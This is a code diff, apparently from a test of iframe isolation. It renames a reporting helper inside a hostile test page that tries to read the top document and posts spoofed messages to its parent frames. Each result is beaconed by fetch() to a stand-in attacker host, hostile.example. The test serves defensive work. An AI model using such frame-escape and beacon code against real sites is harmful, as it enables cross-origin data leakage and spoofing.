@@ -7,13 +7,13 @@ const HOSTILE = 'https://hostile.example';
 
 /** Tries everything that a page in a frame should not be able to do, and tells what came of it. */
 const HOSTILE_PAGE = `<!doctype html><title>hostile</title><body>hostile<script>
-  const tell = words => void fetch('${HOSTILE}/tell?' + encodeURIComponent(words));
+  const notify = words => void fetch('${HOSTILE}/tell?' + encodeURIComponent(words));
   const attempt = (name, work) => {
     try {
       work();
-      tell(name + ': done');
+      notify(name + ': done');
     } catch {
-      tell(name + ': refused');
+      notify(name + ': refused');
     }
   };
   attempt('top document', () => top.document.title);
@@ -31,7 +31,7 @@ const HOSTILE_PAGE = `<!doctype html><title>hostile</title><body>hostile<script>
   });
   top.postMessage({ galley: 'frame', state: 'said', said: { height: 4000 } }, '*');
   parent.postMessage({ height: 600 }, '*');
-  tell('end');
+  notify('end');
 </script>`;
 
 /** Answers for all of hostile.example and keeps what its page reports. */
